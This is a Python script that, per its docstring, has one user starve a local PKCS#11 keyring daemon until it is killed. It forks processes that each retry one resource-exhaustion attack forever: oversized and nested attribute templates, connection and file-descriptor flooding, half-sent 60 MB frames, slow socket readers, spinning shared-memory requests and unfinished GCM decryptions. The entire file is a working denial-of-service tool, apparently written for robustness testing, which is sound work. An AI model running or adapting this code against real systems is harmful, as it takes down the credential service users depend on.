"""One user does at once all that may starve a daemon, until it is killed.

usage: starve.py RPC-SOCKET SLOT-SOCKET TOKEN-FOLDER [WAY...]

Without names it is every way but messages, and burn, which leaves the daemon alone. Each
way runs in a process of its own and goes on when it is refused. It prints a line when each
has begun, and then what each says."""
import mmap
import os
import socket
import struct
import sys
import time

rpc, slots, token, *chosen = sys.argv[1:]


def u(n):
    return struct.pack(">Q", n)


def u32(n):
    return struct.pack(">I", n)


def ay(b):
    return b"\1" + u32(len(b)) + b


class Client:
    def __init__(self, protocol=b"\0"):
        self.s = socket.socket(socket.AF_UNIX)
        self.s.settimeout(60)
        self.s.connect(rpc)
        self.s.sendall(protocol)
        self.s.recv(1)
        self.call(1, "ayyay", ay(b"PRIVATE-GNOME-KEYRING-PKCS11-PROTOCOL-V-1") + b"\0" + ay(b"\0"))

    def send(self, call, signature, values):
        body = u32(call) + u32(len(signature)) + signature.encode() + values
        self.s.sendall(u32(17) + u32(0) + u32(len(body)) + body)

    def read(self, n):
        b = b""
        while len(b) < n:
            d = self.s.recv(n - len(b))
            if not d:
                raise EOFError
            b += d
        return b

    def call(self, call, signature, values=b""):
        self.send(call, signature, values)
        _, options, n = struct.unpack(">III", self.read(12))
        self.read(options)
        body = self.read(n)
        return struct.unpack(">I", body[:4])[0], body[8 + struct.unpack(">I", body[4:8])[0]:]

    def session(self):
        return struct.unpack(">Q", self.call(10, "uu", u(0) + u(6))[1][:8])[0]


def attribute(kind, value):
    return u32(kind) + b"\1" + u32(len(value)) + u32(len(value)) + value


def create(c, h, size, token):
    number, flag = u(0), b"\1" if token else b"\0"
    class_ = u32(0) + b"\1" + u32(8) + number
    true = u32(1) + b"\1" + u32(1) + flag
    return c.call(20, "uaA", u(h) + u32(3) + class_ + true + attribute(0x11, b"x" * size))


def long_templates():
    body = u32(200000) + b"".join(struct.pack(">IBII", 0x80000000 + i, 1, 0, 0) for i in range(200000))
    while True:
        c = Client()
        c.send(26, "uaA", u(c.session()) + body)
        time.sleep(0.1)
        c.s.close()


def nested_counts():
    size, depth = 32 << 20, 6
    body = b""
    for d in range(depth):
        body += u32((size - len(body)) // 5)
        if d < depth - 1:
            body += u32(0x40000211) + b"\1" + u32(0)
    c = Client()
    h = c.session()
    while True:
        c.call(20, "uaA", u(h) + body + bytes(size - len(body)))


def open_blobs():
    c = Client()
    h = c.session()
    for i in range(4):
        create(c, h, 900000, True)
    kept = []
    while True:
        for name in os.listdir(token + "/data"):
            try:
                kept.append(os.open(token + "/data/" + name, os.O_RDONLY))
            except OSError:
                time.sleep(0.01)


def session_objects():
    c = Client()
    h = c.session()
    while True:
        create(c, h, 1 << 20, False)


def invented_names():
    for i in range(1 << 30):
        try:
            os.stat("%s/import:label=%d" % (token, i))
        except OSError:
            time.sleep(0.01)


def connections():
    kept = []
    while True:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(rpc)
            kept.append(s)
        except OSError:
            pass
        if len(kept) >= 200:
            kept.pop(0).close()
            time.sleep(0.01)


def half_frames():
    kept = []
    while True:
        c = Client()
        c.s.sendall(u32(99) + u32(0) + u32(60 << 20) + bytes(8 << 20))
        kept.append(c)
        if len(kept) >= 8:
            kept.pop(0).s.close()


def slow_slot_readers():
    kept = []
    while True:
        s = socket.socket(socket.AF_UNIX)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        s.connect(slots)
        kept.append(s)
        if len(kept) >= 200:
            kept.pop(0).close()
            time.sleep(0.01)


def spinning_roads():
    """requests in shared memory without an end, of which none is one"""
    roads = []
    for _ in range(8):
        c = Client(b"\xc5")
        body = u32(286) + u32(0)
        c.s.sendall(u32(17) + u32(0) + u32(len(body)) + body)
        _, fds, _, _ = socket.recv_fds(c.s, 256, 1)
        m = mmap.mmap(fds[0], 0)
        os.close(fds[0])
        c.s.setblocking(False)
        for slot in range(28):
            m[4096 + 2048 * slot + 4 : 4096 + 2048 * slot + 8] = struct.pack("=I", 64)
        roads.append((c.s, memoryview(m).cast("I")))
    nudge = u32(1) + u32(0) + u32(0)
    while True:
        for s, words in roads:
            words[0] = (1 << 28) - 1
            if words[16] == 0:
                try:
                    s.send(nudge)
                except BlockingIOError:
                    pass


def messages():
    """decryptions of which the first fail, and the others do not end"""
    key = u32(6)
    key += u32(0) + b"\1" + u32(8) + u(4)
    key += u32(0x100) + b"\1" + u32(8) + u(0x1f)
    key += u32(1) + b"\1" + u32(1) + b"\0"
    key += u32(2) + b"\1" + u32(1) + b"\0"
    key += u32(0x105) + b"\1" + u32(1) + b"\1"
    key += attribute(0x11, bytes(32))
    kept = []
    for ends in [True, True, False, False, False]:
        c = Client(b"\1")  # the first that passes GCM
        h = c.session()
        _, handle = c.call(20, "uaA", u(h) + key)
        gcm = u32(0x1087) + u32(12) + bytes(12) + u(96) + u32(0) + u(128)
        going, _ = c.call(33, "uMu", u(h) + gcm + handle[:8])  # 0 is an error's
        parts = 0
        while going and parts < 60:
            going, _ = c.call(35, "uayfy", u(h) + ay(bytes(1 << 20)) + u32(1 << 20))
            parts += 1
        if ends:
            c.call(36, "ufy", u(h) + u32(64 << 20))
        kept.append(c)
    while True:
        time.sleep(60)


def burn():
    while True:
        pass


ways = [long_templates, nested_counts, open_blobs, session_objects, invented_names, connections, half_frames, slow_slot_readers, spinning_roads]
for way in [globals()[name] for name in chosen] or ways:
    if os.fork() == 0:
        os.nice(19)
        while True:
            try:
                way()
            except (OSError, EOFError, struct.error):
                time.sleep(0.05)
print("begun", flush=True)
while True:
    time.sleep(60)
